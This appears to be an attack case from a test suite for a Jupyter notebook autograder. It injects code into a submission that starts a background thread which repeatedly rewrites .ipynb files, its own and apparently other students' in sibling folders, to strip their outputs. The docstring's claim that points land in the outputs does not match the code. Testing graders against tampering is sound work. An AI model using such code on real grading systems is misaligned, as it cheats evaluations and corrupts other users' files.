"""The running notebook overwrites its own results, with points in the outputs.

Success: the attack earns points.
"""


def attack(submission):
    submission.first("""
        import glob, json, threading, time

        def cheat():
            while True:
                for path in glob.glob("*.ipynb") + glob.glob("../../*/ps1/*.ipynb"):
                    try:
                        notebook = json.load(open(path))
                        for cell in notebook["cells"]:
                            if cell.get("outputs"):
                                cell["outputs"] = []
                        json.dump(notebook, open(path, "w"))
                    except (OSError, ValueError):
                        pass
                time.sleep(0.05)

        threading.Thread(target=cheat).start()
    """)
